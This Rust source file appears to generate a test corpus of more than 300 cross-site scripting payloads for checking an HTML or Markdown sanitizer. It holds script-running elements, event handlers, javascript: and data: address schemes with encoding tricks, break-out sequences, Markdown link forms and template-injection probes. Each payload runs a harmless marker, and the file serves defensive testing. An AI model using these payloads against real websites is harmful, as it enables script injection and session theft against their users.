//! Hundreds of texts that try to run something: made from what runs and from how it is hidden.

/// What would run: it marks the page, so that a browser shows whether it did.
const CALL: &str = "window.__hit=1";

/// Elements and attributes that run a script by themselves.
fn list_elements() -> Vec<String> {
    let mut all = vec![
        format!("<script>{CALL}</script>"),
        format!("<script src=data:text/javascript,{CALL}></script>"),
        format!("<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>"),
        format!("<iframe src='javascript:parent.{CALL}'></iframe>"),
        format!("<object data='data:text/html,<script>{CALL}</script>'></object>"),
        format!("<embed src='javascript:{CALL}'>"),
        format!("<svg><script>{CALL}</script></svg>"),
        format!("<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>"),
        format!("<math><mtext><table><mglyph><style><img src=x onerror={CALL}>"),
        format!("<style>@import 'javascript:{CALL}';</style>"),
        format!("<link rel=stylesheet href='data:text/css,*{{}}' onload={CALL}>"),
        format!("<meta http-equiv=refresh content='0;url=javascript:{CALL}'>"),
        format!("<base href='javascript:{CALL}//'>"),
        format!("<form action='javascript:{CALL}'><button autofocus>x</button></form>"),
        format!("<isindex type=image src=x onerror={CALL}>"),
        format!("<template><script>{CALL}</script></template>"),
        format!("<noscript><p title='</noscript><img src=x onerror={CALL}>'>"),
        format!("<textarea><script>{CALL}</script>"),
        format!("<p style='background:url(javascript:{CALL})'>x</p>"),
        format!("<p style='x:expression({CALL})'>x</p>"),
    ];
    let elements = [
        "img src=x",
        "video src=x",
        "audio src=x",
        "body",
        "input autofocus",
        "details open",
        "svg",
        "a",
        "p",
        "marquee",
    ];
    let events = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onstart", "onanimationstart"];
    for element in elements {
        all.extend(events.map(|event| format!("<{element} {event}={CALL}>")));
    }
    all
}

/// Addresses that run when they are followed.
fn list_addresses() -> Vec<String> {
    [
        "javascript:",
        "JaVaScRiPt:",
        " javascript:",
        "java\tscript:",
        "java\nscript:",
        "\u{1}javascript:",
        "javascript&colon;",
        "&#106;avascript:",
        "&#x6A;avascript:",
        "jav&#x0A;ascript:",
        "vbscript:",
        "data:text/html,<script>",
        "data:text/html;base64,PHNjcmlwdD4",
        "feed:javascript:",
        "view-source:javascript:",
        "//evil.example/",
        "\\\\evil.example\\",
        "blob:",
        "file:///etc/passwd?",
    ]
    .iter()
    .map(|scheme| format!("{scheme}{CALL}"))
    .collect()
}

/// How a text breaks out of where it is put.
fn break_out(inner: &str) -> Vec<String> {
    [
        "\">",
        "'>",
        "</title>",
        "</textarea>",
        "</script>",
        "</style>",
        "</a>",
        "-->",
        "]]>",
        "`>",
        "\\\">",
        "\u{2028}",
        "</p></main></body>",
        "<!--",
        "<![CDATA[",
        "{{ ",
        "{% raw %}",
        "${",
        "%7B%7B",
        "&quot;>",
        "\u{0}",
        "\u{feff}",
        "\u{202e}",
    ]
    .iter()
    .map(|before| format!("{before}{inner}"))
    .collect()
}

/// Ways of Markdown to make an address or an element.
fn list_markdown() -> Vec<String> {
    let mut all = Vec::new();
    for address in list_addresses() {
        all.push(format!("[x]({address})"));
        all.push(format!("[x](<{address}>)"));
        all.push(format!("![x]({address})"));
        all.push(format!("<{address}>"));
        all.push(format!("[x]: {address}\n\n[x]"));
    }
    all.extend([
        format!("[x](https://a.example \"' onmouseover={CALL} x='\")"),
        format!("[x](https://a.example/'onmouseover='{CALL})"),
        format!("![x\" onerror=\"{CALL}](https://a.example/x.png)"),
        format!("```\"><script>{CALL}</script>\nx\n```"),
        format!("```html onload={CALL}\nx\n```"),
        format!("<https://a.example/\"onmouseover=\"{CALL}>"),
        format!("| a | <script>{CALL}</script> |\n|---|---|\n| b | <img src=x onerror={CALL}> |"),
        format!("[^1]\n\n[^1]: <script>{CALL}</script>"),
        format!("$$\\href{{javascript:{CALL}}}{{x}}$$"),
        format!("# <script>{CALL}</script> {{#x onload={CALL}}}"),
    ]);
    all
}

/// Syntax of templates, which must come out as it went in.
pub const TEMPLATES: [&str; 4] =
    ["{{ 7*7 }}", "{% if true %}hidden{% endif %}", "{{ config }}", "{# gone #}"];

/// All of them.
pub fn list_payloads() -> Vec<String> {
    let elements = list_elements();
    let broken = elements.iter().take(4).flat_map(|element| break_out(element));
    let entities = elements.iter().take(4).map(|e| e.replace('<', "&lt;").replace('>', "&gt;"));
    let wide = elements.iter().take(4).map(|e| e.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"));
    let double = elements.iter().take(4).map(|e| e.replace('<', "%3C").replace('>', "%3E"));
    let mut all: Vec<String> = broken.chain(entities).chain(wide).chain(double).collect();
    all.extend(elements);
    all.extend(list_addresses());
    all.extend(list_markdown());
    all.extend(TEMPLATES.map(str::to_owned));
    all
}

#[test]
fn there_are_hundreds() {
    let all = list_payloads();
    let different: std::collections::BTreeSet<_> = all.iter().collect();
    assert!(different.len() > 300, "{}", different.len());
}
